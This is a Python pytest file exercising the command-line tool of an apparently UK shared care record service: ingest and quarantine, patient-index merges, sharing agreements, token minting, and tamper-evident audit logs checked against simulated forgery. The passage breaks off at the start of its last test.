"""The `sharedcare` command as an operator or an integration engineer uses it."""

from __future__ import annotations

import csv
import getpass
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, update
from tests.builders import bundle, condition, patient, write_ndjson
from tests.conftest import DEPLOYMENT_KEYS, FRAMEWORK_PATH
from tests.fhir_bundles import entries
from tests.governance.test_audit import _forged_after_head, _plain, _write, as_an_attacker_with_ddl_rights
from tests.ingest.test_hl7v2 import results
from tests.small_ics import Ics, without_nhs_number
from typer.testing import CliRunner

from sharedcare.api.auth import read_token
from sharedcare.cli import UNVERIFIED_ROW, app
from sharedcare.clock import utcnow
from sharedcare.config import load_settings
from sharedcare.fhir.uk_core import meta_source
from sharedcare.governance.access_log import accesses_of, details
from sharedcare.governance.audit import AuditAction, AuditRecord
from sharedcare.governance.framework import Framework
from sharedcare.identity.links import merge_persons
from sharedcare.ingest.mllp import MllpServer
from sharedcare.ingest.pipeline import Pipeline
from sharedcare.store.database import Database
from sharedcare.store.models import AuditEntry, PatientRecord, Quarantine, Resource, ReviewItem

runner = CliRunner()


def _feed(tmp_path: Path) -> Path:
    good = bundle("P81001", "emis", [patient("gp-1", "9434765919", "Okafor", "Emeka", "1945-03-02"),
                                     condition("c1", "Patient/gp-1", "44054006", "Diabetes")])
    bad = bundle("P81001", "emis", [patient("gp-2", "1234567890", "Hughes", "Margaret", "1952-06-11")])
    return write_ndjson(tmp_path / "P81001" / "fhir" / "emis-0001.ndjson", [good, bad])


def test_ingest_json_reports_counts_and_every_quarantine_reason(env: Database, tmp_path: Path) -> None:
    result = runner.invoke(app, ["ingest", str(_feed(tmp_path)), "--json"])
    assert result.exit_code == 1  # something was quarantined: a script should notice
    report = json.loads(result.stdout)
    assert (report["accepted"], report["unchanged"], report["quarantined"]) == (2, 0, 1)
    (reason,) = report["quarantine"]
    assert "modulus 11" in reason["reason"] and reason["location"] == "line 2"
    with env.session() as s:  # the run is audited as the operator's write (TRUST AU1), with its counts
        (run,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "clinical:record:write")).all()
    info = details(run)
    assert (run.username, run.outcome, info["files"], info["accepted"], info["quarantined"]) == (
        "cli", "permit", "1", "2", "1")
    assert info["paths"].endswith("emis-0001.ndjson")


def test_ingest_of_a_missing_path_is_a_usage_error(env: Database, tmp_path: Path) -> None:
    result = runner.invoke(app, ["ingest", str(tmp_path / "nope")])
    assert result.exit_code == 2 and "no such file" in result.stderr


def test_mpi_export_lists_each_source_record_and_its_person(env: Database, tmp_path: Path) -> None:
    runner.invoke(app, ["ingest", str(_feed(tmp_path))])
    result = runner.invoke(app, ["mpi", "export"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["source_org", "source_id", "person_id", "match_probability", "status"]
    assert [(r["source_org"], r["source_id"], r["status"]) for r in rows] == [("P81001", "gp-1", "linked")]


def test_users_list_json_names_role_and_organisation(env: Database) -> None:
    result = runner.invoke(app, ["users", "list", "--json"])
    users = {u["username"]: u for u in json.loads(result.stdout)}
    assert users["dn.williams"]["role"] == "district_nurse" and users["dn.williams"]["organisation"] == "RYC"


def test_token_is_refused_for_an_unknown_user(env: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in DEPLOYMENT_KEYS.items():
        monkeypatch.setenv(name, value)
    result = runner.invoke(app, ["token", "--user", "nobody"])
    assert result.exit_code == 2 and "no user 'nobody'" in result.stderr


def test_a_token_minted_at_the_command_line_is_on_record_as_that_users_sign_in_naming_who_minted_it(
        env: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever holds the service's keys can mint any clinician a token, and everything read with it is
    audited under the clinician's name: the minting itself must be on record, or the log would say the
    clinician signed in and looked when someone else did."""
    for name, value in DEPLOYMENT_KEYS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("USER", "ops.jones")
    result = runner.invoke(app, ["token", "--user", "dr.patel", "--scope", "user/*.read", "--minutes", "30"])
    assert result.exit_code == 0, result.stderr
    claims = read_token(load_settings(), result.stdout.strip())
    with env.session() as s:
        (minted,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "auth:session:login")).all()
    info = details(minted)
    assert (minted.username, minted.organisation, minted.outcome) == ("dr.patel", "P81001", "permit")
    assert (info["step"], info["minted_by"], info["token_id"], info["scope"]) == (
        "command-line token", "cli:ops.jones", claims["jti"], "user/*.read")
    assert info["expires"] == datetime.fromtimestamp(claims["exp"], UTC).isoformat()


def test_audit_verify_passes_then_fails_after_tampering(env: Database, tmp_path: Path) -> None:
    runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "a breach reported"])
    runner.invoke(app, ["preferences", "set", "9434765919", "--object-org", "NHR"])
    ok = runner.invoke(app, ["audit", "verify"])
    assert ok.exit_code == 0 and "3 entries verified" in ok.stderr  # the two, after the log's opening entry
    as_an_attacker_with_ddl_rights(env)
    with env.session() as s:
        s.execute(update(AuditEntry).where(AuditEntry.seq == 2).values(username="someone-else"))
    broken = runner.invoke(app, ["audit", "verify"])
    assert broken.exit_code == 1 and "broken at entry 2" in broken.stderr


def test_the_audit_key_outlives_a_rotated_secret_and_a_check_with_another_key_says_so(
        env: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """An operator rotates SHAREDCARE_SECRET (after a leak, say) and keeps the audit's key as
    SHAREDCARE_AUDIT_KEY: the log written before and after verifies. Checked under another key, `verify`
    names the first entry it cannot vouch for and says a different key may be why."""
    old_secret = "the secret this deployment started with, 32+ bytes"
    monkeypatch.delenv("SHAREDCARE_AUDIT_KEY", raising=False)  # keyed by the secret, as before the setting
    monkeypatch.setenv("SHAREDCARE_SECRET", old_secret)
    runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "a breach reported"])
    monkeypatch.setenv("SHAREDCARE_SECRET", "the secret it was rotated to, also 32+ bytes")
    monkeypatch.setenv("SHAREDCARE_AUDIT_KEY", old_secret)
    runner.invoke(app, ["agreements", "set", "NHR", "--status", "signed", "--reason", "breach resolved"])
    kept = runner.invoke(app, ["audit", "verify"])
    assert kept.exit_code == 0 and "3 entries verified" in kept.stderr
    monkeypatch.delenv("SHAREDCARE_AUDIT_KEY")
    other = runner.invoke(app, ["audit", "verify"])
    said = " ".join(other.stderr.split())
    assert other.exit_code == 1 and "broken at entry 2" in said and "SHAREDCARE_AUDIT_KEY" in said
    # a command that would write under the other key is stopped before it writes anything
    refused = runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "a breach"])
    said = " ".join(refused.stderr.split())
    assert refused.exit_code == 2 and "not written with this process's audit key" in said
    with env.session() as s:
        assert s.scalar(select(func.max(AuditEntry.seq))) == 3


def test_agreements_set_rejects_an_unknown_status_and_organisation(env: Database) -> None:
    assert runner.invoke(app, ["agreements", "set", "NHR", "--status", "paused"]).exit_code == 2
    result = runner.invoke(app, ["agreements", "set", "XXX", "--status", "suspended", "--reason", "a breach reported"])
    assert result.exit_code == 2 and "not in the framework" in result.stderr


def test_agreements_set_asks_why_to_suspend_and_keeps_the_reason_in_the_audit_entry(env: Database) -> None:
    refused = runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended"])
    assert refused.exit_code == 2 and "give a reason for setting NHR's agreement to suspended" in refused.stderr
    rows = {r["organisation"]: r for r in json.loads(runner.invoke(app, ["agreements", "list", "--json"]).stdout)}
    assert rows["NHR"]["status"] == "signed"  # nothing changed
    done = runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "breach reported"])
    assert done.exit_code == 0
    with env.session() as s:
        (entry,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "governance:agreement:set")).all()
    assert details(entry)["reason"] == "breach reported"


def test_agreements_list_shows_a_suspension(env: Database) -> None:
    runner.invoke(app, ["agreements", "set", "NHR", "--status", "suspended", "--reason", "a breach reported"])
    rows = {r["organisation"]: r for r in json.loads(runner.invoke(app, ["agreements", "list", "--json"]).stdout)}
    assert rows["NHR"]["status"] == "suspended" and rows["RXR"]["status"] == "signed"


def test_preferences_set_rejects_an_invalid_nhs_number(env: Database) -> None:
    result = runner.invoke(app, ["preferences", "set", "1234567890", "--object-all"])
    assert result.exit_code == 2 and "modulus 11" in result.stderr


def test_preferences_set_withdraws_one_objection_and_keeps_the_others(env: Database) -> None:
    """A patient writes to withdraw her objection to the hospice only: before, the IG officer could only
    clear every choice or replace them all with a Consent."""
    for choice in (["--object-org", "NHR"], ["--object-org", "RXR"], ["--opt-out-secondary"]):
        runner.invoke(app, ["preferences", "set", "9434765919", *choice])
    done = runner.invoke(app, ["preferences", "set", "9434765919", "--allow-org", "NHR"])
    assert done.exit_code == 0 and "object_orgs=['RXR']" in done.stderr and "opt_out_secondary=True" in done.stderr
    unknown = runner.invoke(app, ["preferences", "set", "9434765919", "--allow-org", "XXX"])
    assert unknown.exit_code == 2 and "--allow-org: organisation 'XXX' is not in the framework" in unknown.stderr


def test_mapping_check_lists_each_problem_of_an_invalid_mapping_on_its_own_line(env: Database,
                                                                               tmp_path: Path) -> None:
    """Journey 10: an integration engineer's first care home mapping has two mistakes; each is a line naming
    where it is, not one line joined by an encoded newline ("\\x0a")."""
    mapping = tmp_path / "LRC-mosaic.yaml"
    mapping.write_text((FRAMEWORK_PATH.parent / "mappings" / "LRC-mosaic.yaml").read_text()
                       .replace("codes: {Male: male,", "codez: {Male: male,"))
    sample = tmp_path / "sample.csv"
    sample.write_text("client_id\n1\n")
    result = runner.invoke(app, ["mapping", "check", str(mapping), str(sample)], env={"COLUMNS": "400"})
    assert result.exit_code == 2 and "\\x0a" not in result.stderr
    lines = result.stderr.splitlines()
    assert lines[0].endswith("is invalid:")
    assert any(line.startswith("  line ") and "patient.sex.codez" in line for line in lines)
    assert any(line.startswith("  line ") and "patient.sex.codes" in line for line in lines)


def test_framework_check_names_the_line_of_a_problem(env: Database, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    broken = tmp_path / "framework.yaml"
    broken.write_text(FRAMEWORK_PATH.read_text().replace("role: gp,", "role: doctor,"))
    monkeypatch.setenv("SHAREDCARE_FRAMEWORK", str(broken))
    result = runner.invoke(app, ["framework", "check"])
    assert result.exit_code == 2 and "users.dr.patel.role: unknown role 'doctor'" in result.stderr


def test_a_quarantined_bundle_is_listed_and_replayed_once_its_agreement_is_signed(
        env: Database, tmp_path: Path) -> None:
    runner.invoke(app, ["agreements", "set", "RYC", "--status", "suspended", "--reason", "a breach reported"])
    feed = write_ndjson(tmp_path / "ryc.ndjson", [bundle("RYC", "rio", [
        patient("RYC-1", "9434765919", "Okafor", "Emeka", "1945-03-02")])])
    assert runner.invoke(app, ["ingest", str(feed)]).exit_code == 1
    (held,) = json.loads(runner.invoke(app, ["quarantine", "list", "--json"]).stdout)
    assert "no signed agreement" in held["reason"] and held["location"] == "line 1"
    listed = runner.invoke(app, ["quarantine", "list"], env={"COLUMNS": "400"}).stdout
    assert listed.count(str(feed)) == 1  # where, said once: the reason column does not repeat it

    still = runner.invoke(app, ["quarantine", "replay", str(held["id"])])
    assert still.exit_code == 1 and "still quarantined" in still.stderr

    runner.invoke(app, ["agreements", "set", "RYC", "--status", "signed"])
    done = runner.invoke(app, ["quarantine", "replay", str(held["id"]), "--json"])
    assert done.exit_code == 0 and json.loads(done.stdout)["accepted"] == 1
    with env.session() as s:
        runs = s.scalars(select(AuditEntry).where(AuditEntry.action == "clinical:record:write")
                         .order_by(AuditEntry.seq)).all()
    assert [(details(r).get("replayed"), details(r)["accepted"]) for r in runs] == [
        (None, "0"), (str(held["id"]), "0"), (str(held["id"]), "1")]
    start_and_end = ("clinical:ingest:start", "clinical:record:write")
    with env.session() as s:  # each run's start was written before it, and names the run its end does
        both = s.scalars(select(AuditEntry).where(AuditEntry.action.in_(start_and_end)).order_by(AuditEntry.seq)).all()
    assert [(e.action, details(e)["run"]) for e in both] == [
        (action, details(r)["run"]) for r in runs for action in start_and_end]
    assert json.loads(runner.invoke(app, ["quarantine", "list", "--json"]).stdout) == []
    again = runner.invoke(app, ["quarantine", "replay", str(held["id"])])
    assert again.exit_code == 2 and "no held quarantine item" in again.stderr
    listed = json.loads(runner.invoke(app, ["audit", "runs", "--json"]).stdout)
    assert [(r["replayed"], r["outcome"], r["stopped"], r["accepted"]) for r in listed] == [
        (str(held["id"]), "error", "MessageError", ""), (str(held["id"]), "permit", "", "1"),
        (str(held["id"]), "permit", "", "0"), ("", "permit", "", "0")]


def test_a_replayed_message_is_dated_when_it_was_received_and_reported_stale_behind_a_newer_correction(
        env: Database, ics: Ics, tmp_path: Path) -> None:
    """secrev F5: a plain Condition (no event time of its own) held while the practice's agreement was
    suspended is, once replayed, older than the correction the practice sent since: the operator is told it
    is stale, and the clinician still sees the correction."""
    def diabetes(onset: str) -> str:
        return json.dumps(condition("gp-c1", "Patient/gp-okafor", "44054006", "Type 2 diabetes mellitus",
                                    onsetDateTime=onset, meta={"source": meta_source("P81001", "emis")}))

    suspended = runner.invoke(app, ["agreements", "set", "P81001", "--status", "suspended", "--reason", "a breach"])
    assert suspended.exit_code == 0, suspended.output
    assert runner.invoke(app, ["ingest", str(write_ndjson(tmp_path / "old.ndjson", [diabetes("2010-01-01")]))]
                         ).exit_code == 1
    with env.session() as s:  # held for an hour
        s.execute(update(Quarantine).values(received_at=utcnow() - timedelta(hours=1)))
        held = s.scalars(select(Quarantine.id)).one()
    assert runner.invoke(app, ["agreements", "set", "P81001", "--status", "signed"]).exit_code == 0
    assert runner.invoke(app, ["ingest", str(write_ndjson(tmp_path / "new.ndjson", [diabetes("2018-07-01")]))]
                         ).exit_code == 0
    replayed = runner.invoke(app, ["quarantine", "replay", str(held)], env={"COLUMNS": "200"})
    assert replayed.exit_code == 0, replayed.output
    assert f"#{held} replayed: 0 accepted, 0 unchanged, 1 stale" in replayed.stderr
    everything = ics.client.get(f"/fhir/Patient/{ics.okafor}/$everything?_type=Condition",
                                headers=ics.open_record("dr.patel")).json()
    assert [e["resource"]["onsetDateTime"] for e in entries(everything)
            if e["resource"]["code"]["coding"][0]["code"] == "44054006"] == ["2018-07-01"]


def test_framework_explain_for_one_role_and_an_unknown_one(env: Database) -> None:
    result = runner.invoke(app, ["framework", "explain", "--role", "admin_staff", "--json"])
    data = json.loads(result.stdout)
    seen = {r["category"]: r["sees"] for r in data["roles"]}
    assert seen["demographics"].startswith("only that") and seen["summary"].startswith("nothing, not even")
    bad = runner.invoke(app, ["framework", "explain", "--role", "wizard"])
    assert bad.exit_code == 2 and "no role 'wizard'" in bad.stderr


def test_framework_explain_names_the_partners_and_every_role_in_plain_words(env: Database) -> None:
    """Journey 9: a Caldicott guardian reads who shares and who sees what before signing."""
    result = runner.invoke(app, ["framework", "explain"], env={"COLUMNS": "200"})
    assert result.exit_code == 0
    assert "GP: what they can see" in result.stdout and "What a gp" not in result.stdout
    assert "Administrative staff: what they can see" in result.stdout and "What a administrative" not in result.stdout
    assert "VWC01 Willow Court Care Home" in result.stdout and "Dr Helen Marsh, Caldicott Guardian" in result.stdout
    for label in ("Information governance officer: opens no record for care", "Population health analyst: opens "
                  "no record", "Patient: sees their own record and everyone who looked at it, except safeguarding"):
        assert label in result.stdout, label
    ig = json.loads(runner.invoke(app, ["framework", "explain", "--role", "ig_officer", "--json"]).stdout)
    assert ig["roles"] == [] and ig["other_roles"][0].startswith("Information governance officer: opens no record")
    assert {p["code"]: p["agreement"] for p in ig["partners"]}["VWC01"] == "draft"


def test_the_ig_officer_works_the_review_queue_from_the_command_line(env: Database, tmp_path: Path) -> None:
    from sharedcare.governance.framework import load_framework
    from sharedcare.governance.gateway import GovernedRecords, actor_for

    runner.invoke(app, ["ingest", str(_feed(tmp_path))])
    fw = load_framework(FRAMEWORK_PATH)
    rows = csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout))
    person = next(rows)["person_id"]
    with env.session() as s:  # by the id alone (from the operator's export): no search by her found him
        GovernedRecords(s, fw, actor_for(fw, "dr.oconnor")).record_basis(person, "emergency", "collapsed in A&E")
    item, by_id = json.loads(runner.invoke(app, ["audit", "review", "--json"]).stdout)
    assert (item["kind"], item["username"], item["overdue"]) == ("emergency", "dr.oconnor", False)
    assert (by_id["kind"], by_id["username"], by_id["patient_id"]) == ("opened-by-id", "dr.oconnor", person)
    assert by_id["reason"].startswith("record opened by its id alone: no search by this user found the patient")
    table = runner.invoke(app, ["audit", "review"], env={"COLUMNS": "400"}).stdout  # wide: one line a row
    assert "opened-by-id" in table and "record opened by its id alone" in table
    for each in (item, by_id):
        done = runner.invoke(app, ["audit", "outcome", str(each["id"]), "--outcome", "appropriate",
                                   "--note", "A&E attendance confirmed", "--by", "ig.morgan"])
        assert done.exit_code == 0
    assert json.loads(runner.invoke(app, ["audit", "review", "--json"]).stdout) == []
    found = json.loads(runner.invoke(app, ["audit", "search", "--patient", person, "--json"]).stdout)
    assert {r["action"] for r in found} >= {"access:basis:record", "governance:review:outcome"}
    by_org = json.loads(runner.invoke(app, ["audit", "search", "--org", "RXR", "--json"]).stdout)
    assert {r["user"] for r in by_org} == {"dr.oconnor"}
    out = tmp_path / "audit.ndjson"
    assert runner.invoke(app, ["audit", "export", "--out", str(out)]).exit_code == 0
    exported, [export, *before] = out.read_text().splitlines(), json.loads(runner.invoke(
        app, ["audit", "search", "--json"]).stdout)
    assert export["action"] == "governance:audit:export" and len(exported) == len(before)  # all but its own entry


def test_audit_search_says_which_entries_could_not_be_verified(env: Database) -> None:
    """An entry appended without the chain's key (`audit verify` names it forged) is `verified: no`."""
    _write(env, 2)
    forged = _forged_after_head(env, _plain)
    found = json.loads(runner.invoke(app, ["audit", "search", "--json"]).stdout)
    assert {r["seq"]: r["verified"] for r in found} == {**{r["seq"]: "yes" for r in found}, forged: "no"}


def test_audit_search_shows_an_entry_that_could_not_be_verified_as_such_not_what_it_claims(env: Database) -> None:
    """A forged read naming a basis and a reason was printed in the table as fact, only `no` in its last column:
    the IG officer read the reason as the clinician's. Now it is told from its columns alone, as the IG portal
    and `audit export` tell it: marked where the reason would be, and what that means said beneath the table;
    the JSON carries the same words and nothing of its event."""
    lying = AuditRecord(AuditAction.RECORD_READ, "permit", username="dr.patel", role="gp", organisation="P81001",
                        purpose="direct-care", patient_id="p-forged", basis="explicit-consent",
                        reason="the patient asked me to look at her record")
    _write(env, 1)
    forged = _forged_after_head(env, _plain, lying)
    table = runner.invoke(app, ["audit", "search"], env={"COLUMNS": "400"}).stdout
    [row] = [line for line in table.splitlines() if line.startswith(f"│ {forged} ")]
    assert "COULD NOT BE VERIFIED: not written by the service" in row and "dr.patel" in row
    assert "the patient asked me" not in table and "explicit-consent" not in table
    assert (f"1 of these entries could not be verified (entries {forged}): their hash is not the service's"
            in " ".join(table.split()))
    [shown] = [r for r in json.loads(runner.invoke(app, ["audit", "search", "--json"]).stdout) if r["seq"] == forged]
    assert {name: value for name, value in shown.items() if name != "recorded"} == {
        "seq": forged, "action": "clinical:record:read", "outcome": "permit", "user": "dr.patel",
        "organisation": "P81001", "patient_id": "p-forged", "verified": "no", "warning": UNVERIFIED_ROW}


def test_an_audit_search_by_an_id_a_merge_emptied_is_of_the_person_now_who_is_told(
        env: Database, ics: Ics, framework: Framework) -> None:
    """An older entry (or a complaint) gives the person id a record had before a merge; that id holds nothing
    now. The search by it was audited about the emptied id, so the patient, who is the person the merge kept,
    was never told, and it missed every look since the merge. Now it finds them, says so, and is audited about
    the person now, keeping the id searched."""
    with env.session() as s:
        without_nhs_number(s, ics.stranger)
        merge_persons(s, ics.okafor, ics.stranger, by="mpi.admin", reason="test: one person")
        s.commit()
    ics.open_record("dr.oconnor", basis="emergency", reason="collapsed in A&E")  # since the merge
    searched = runner.invoke(app, ["audit", "search", "--patient", ics.stranger, "--json"])
    assert searched.exit_code == 0, searched.output
    assert ("dr.oconnor", "collapsed in A&E") in {(r["user"], r.get("reason")) for r in json.loads(searched.stdout)}
    assert f"person {ics.stranger} holds no records now" in " ".join(searched.stderr.split())
    assert (TEAM, "looked at the list of who has seen your record (an information governance check)") in _told(
        env, framework, ics.okafor)
    # the search's own entry, as the next search shows it: about him, the id searched beside (never in place of) it
    [search] = [r for r in json.loads(runner.invoke(app, ["audit", "search", "--patient", ics.okafor, "--json"])
                                      .stdout) if r["action"] == "governance:audit:search"]
    assert (search["patient_id"], search["detail patient_id"], search["person_now"]) == (
        ics.okafor, ics.stranger, ics.okafor)


def test_an_outcome_is_recorded_only_by_an_ig_officer_other_than_the_user_reviewed_naming_the_account(
        env: Database, ics: Ics, framework: Framework) -> None:
    """`--by` is who the audit says cleared a break glass: the clinician under review, or any name typed, is
    refused; the IG officer's outcome names the operating-system account that entered it."""
    from sharedcare.governance.review import queue

    ics.open_record("dr.oconnor", basis="emergency", reason="unconscious in resus, no history")
    with env.session() as s:
        (glass,) = queue(s, framework, utcnow())
        own = ReviewItem(kind="unusual-volume", username="ig.morgan", person_id=ics.okafor, reason="40 records",
                         created_at=utcnow())
        s.add(own)
        s.flush()
        own_id = own.id
    for by in ("dr.oconnor", "Someone Else"):
        refused = runner.invoke(app, ["audit", "outcome", str(glass.id), "--outcome", "appropriate", "--by", by])
        assert refused.exit_code == 2 and "not a framework user whose role may work the review queue" in \
            refused.stderr
    mine = runner.invoke(app, ["audit", "outcome", str(own_id), "--outcome", "appropriate", "--by", "ig.morgan"])
    assert mine.exit_code == 2 and "ig.morgan's own access: another IG officer must" in mine.stderr
    with env.session() as s:
        assert [i.id for i in queue(s, framework, utcnow())] == [glass.id, own_id]  # both still open
        (denied,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "governance:function:denied"))
        assert (denied.username, details(denied)["rule"]) == ("ig.morgan", "deny-own-review")

    done = runner.invoke(app, ["audit", "outcome", str(glass.id), "--outcome", "appropriate", "--by", "ig.morgan"])
    assert done.exit_code == 0, done.stdout
    with env.session() as s:
        (entry,) = s.scalars(select(AuditEntry).where(AuditEntry.action == "governance:review:outcome"))
    assert (entry.username, details(entry)["operator_account"]) == ("ig.morgan", f"cli:{getpass.getuser()}")


def test_mpi_evaluate_scores_the_index_and_relink_improves_it(env: Database, tmp_path: Path) -> None:
    from sharedcare.synth import generate

    generate(tmp_path / "ics", people=300, seed=31)
    runner.invoke(app, ["ingest", str(tmp_path / "ics")])
    truth = str(tmp_path / "ics" / "ground_truth.csv")
    before = json.loads(runner.invoke(app, ["mpi", "evaluate", "--truth", truth, "--json"]).stdout)
    assert before["precision"] == 1.0 and before["falsely_merged_persons"] == 0
    relinked = runner.invoke(app, ["mpi", "relink", "--json", "--model-out", str(tmp_path / "model.json")])
    assert relinked.exit_code == 0, relinked.stderr
    assert json.loads(relinked.stdout)["records"] == before["records"]
    assert json.loads((tmp_path / "model.json").read_text())["sharedcare_model_version"]
    after = json.loads(runner.invoke(app, ["mpi", "evaluate", "--truth", truth, "--json"]).stdout)
    assert after["falsely_merged_persons"] == 0 and after["recall"] >= before["recall"]
    table = runner.invoke(app, ["mpi", "evaluate", "--truth", truth])
    assert "precision" in table.stdout and "Worst errors" in table.stdout


def test_mpi_evaluate_shows_recall_without_the_records_too_little_to_match_on(env: Database, tmp_path: Path) -> None:
    # Mr Okafor's GP and hospital records link on his NHS number; the ambulance's record of him as an
    # unknown patient (no name, no date of birth) is held for review, never guessed, so its two pairs can
    # only be missed: the overall recall says so, and the figure without held records says how the rest did.
    unknown = patient("RYC-9", None, "UNKNOWN", "UNKNOWN", "1945-01-01")
    del unknown["birthDate"]
    write_ndjson(tmp_path / "feeds.ndjson", [
        bundle("P81001", "emis", [patient("gp-1", "9434765919", "Okafor", "Emeka", "1945-03-02")]),
        bundle("RYC", "rio", [patient("RYC-1", "9434765919", "Okafor", "Emeka", "1945-03-02")]),
        bundle("RYC", "rio", [unknown])])
    assert runner.invoke(app, ["ingest", str(tmp_path / "feeds.ndjson")]).exit_code == 0
    truth = tmp_path / "truth.csv"
    truth.write_text("source_org,source_id,person_key\nP81001,gp-1,okafor\nRYC,RYC-1,okafor\nRYC,RYC-9,okafor\n")
    scored = json.loads(runner.invoke(app, ["mpi", "evaluate", "--truth", str(truth), "--json"]).stdout)
    assert scored["recall"] == pytest.approx(1 / 3) and scored["precision"] == 1.0
    assert scored["held_too_little"] == 1 and scored["recall_without_held"] == 1.0
    table = runner.invoke(app, ["mpi", "evaluate", "--truth", str(truth)]).stdout
    assert "records held: too little to match on" in table and "recall without them" in table


def test_mpi_evaluate_refuses_a_file_that_is_not_ground_truth(env: Database, tmp_path: Path) -> None:
    bad = tmp_path / "truth.csv"
    bad.write_text("org,id\nA,1\n")
    result = runner.invoke(app, ["mpi", "evaluate", "--truth", str(bad)])
    assert result.exit_code == 2 and "header lacks person_key, source_id, source_org" in result.stderr


def test_merge_and_unmerge_from_the_command_line(env: Database, tmp_path: Path) -> None:
    feed = write_ndjson(tmp_path / "two.ndjson", [
        bundle("P81001", "emis", [patient("a", None, "Hughes", "Margaret", "1952-06-11", gender="female")]),
        bundle("P81002", "systmone", [patient("b", None, "Hughes", "Peggy", "1953-02-17", gender="female")])])
    runner.invoke(app, ["ingest", str(feed)])
    first, second = (r["person_id"] for r in csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout)))
    merged = runner.invoke(app, ["mpi", "merge", first, second, "--reason", "Peggy is Margaret"])
    assert merged.exit_code == 0 and "1 source records moved" in merged.stderr
    assert len({r["person_id"] for r in csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout))}) == 1
    unsaid = runner.invoke(app, ["mpi", "unmerge", "1"])
    assert unsaid.exit_code == 2 and "--reason" in unsaid.output
    assert runner.invoke(app, ["mpi", "unmerge", "1", "--reason", "two women"]).exit_code == 0
    people = {r["source_id"]: r["person_id"] for r in csv.DictReader(io.StringIO(
        runner.invoke(app, ["mpi", "export"]).stdout))}
    assert people == {"a": first, "b": second}
    again = runner.invoke(app, ["mpi", "unmerge", "1", "--reason", "two women"])
    assert again.exit_code == 2 and "already undone" in again.stderr
    assert json.loads(runner.invoke(app, ["mpi", "review", "--json"]).stdout) == []


def _merged_then_patricia_called_999(tmp_path: Path) -> tuple[str, str]:
    """Margaret's and Patricia's GP records merged by mistake, then an ambulance record of Patricia's, linked to
    the merged person through her GP record: Margaret's and Patricia's person ids."""
    runner.invoke(app, ["ingest", str(write_ndjson(tmp_path / "gp.ndjson", [
        bundle("P81001", "emis", [patient("m", None, "Hughes", "Margaret", "1952-06-11", "female", "RV1 2AB")]),
        bundle("P81002", "systmone", [patient("p", None, "Hughes", "Patricia", "1955-02-17", "female", "RV4 4BB")])]))])
    margaret, patricia = (r["person_id"] for r in csv.DictReader(io.StringIO(
        runner.invoke(app, ["mpi", "export"]).stdout)))
    assert runner.invoke(app, ["mpi", "merge", margaret, patricia, "--reason", "one person"]).exit_code == 0
    runner.invoke(app, ["ingest", str(write_ndjson(tmp_path / "amb.ndjson", [bundle("RYA", "epcr", [
        patient("call-7", None, "Hughes", "Patricia", "1955-02-17", "female", "RV4 4BB")])]))])
    return margaret, patricia


def test_unmerge_lists_each_record_restored_and_each_that_arrived_during_the_merge_with_where_it_went(
        env: Database, tmp_path: Path) -> None:
    """An operator undoing a mistaken merge sees which records went back to which person, and that the ambulance
    record which arrived meanwhile (linked through Patricia's record) was matched again and went to Patricia."""
    margaret, patricia = _merged_then_patricia_called_999(tmp_path)
    shown = runner.invoke(app, ["mpi", "unmerge", "1", "--json", "--reason", "two women"])
    assert shown.exit_code == 0, shown.output
    assert json.loads(shown.stdout) == {
        "unmerge": 2, "undoes": 1,
        "restored": [{"record": "P81002/p", "from_person": margaret, "to_person": patricia}],
        "matched_again": [{"record": "RYA/call-7", "from_person": margaret, "to_person": patricia,
                           "status": "linked", "note": None}], "reviews_marked_separate": []}


def test_unmerge_shows_a_table_of_where_each_record_went(env: Database, tmp_path: Path) -> None:
    margaret, patricia = _merged_then_patricia_called_999(tmp_path)
    table = runner.invoke(app, ["mpi", "unmerge", "1", "--reason", "two women"], env={"COLUMNS": "400"}).stdout
    assert "1 source records restored, 1 that arrived during the merge matched again" in table
    restored, again = (line for line in table.splitlines() if "P81002/p" in line or "RYA/call-7" in line)
    assert margaret in restored and patricia in restored and "restored" in restored
    assert margaret in again and patricia in again and "matched again: linked" in again


def test_mpi_merge_refuses_two_persons_with_different_nhs_numbers(env: Database, tmp_path: Path) -> None:
    feed = write_ndjson(tmp_path / "two.ndjson", [
        bundle("P81001", "emis", [patient("a", "9434765919", "Hughes", "Margaret", "1952-06-11", gender="female")]),
        bundle("P81002", "systmone", [patient("b", "9990000018", "Hughes", "Peggy", "1953-02-17", gender="female")])])
    runner.invoke(app, ["ingest", str(feed)])
    first, second = (r["person_id"] for r in csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout)))
    merged = runner.invoke(app, ["mpi", "merge", first, second, "--reason", "Peggy is Margaret"])
    assert merged.exit_code == 2 and "5919" in merged.stderr and "0018" in merged.stderr
    assert len({r["person_id"] for r in csv.DictReader(io.StringIO(runner.invoke(app, ["mpi", "export"]).stdout))}) == 2


def _twins_and_a_thin_record(tmp_path: Path) -> Path:
    """Two hospital records the MPI is unsure about (twins' shape) and one with no name or birth date."""
    return write_ndjson(tmp_path / "twins.ndjson", [
        bundle("RXR", "epr", [patient("amy", None, "Jones", "Amy", "2001-04-05", gender="female")]),
        bundle("RXR", "epr", [patient("zoe", None, "Jones", "Zoe", "2001-04-05", gender="female")]),
        bundle("RXR", "epr", [{"resourceType": "Patient", "id": "unknown", "gender": "male"}])])


def test_mpi_review_shows_each_uncertain_pair_as_a_waterfall_and_thin_records_with_their_reason(
        env: Database, tmp_path: Path) -> None:
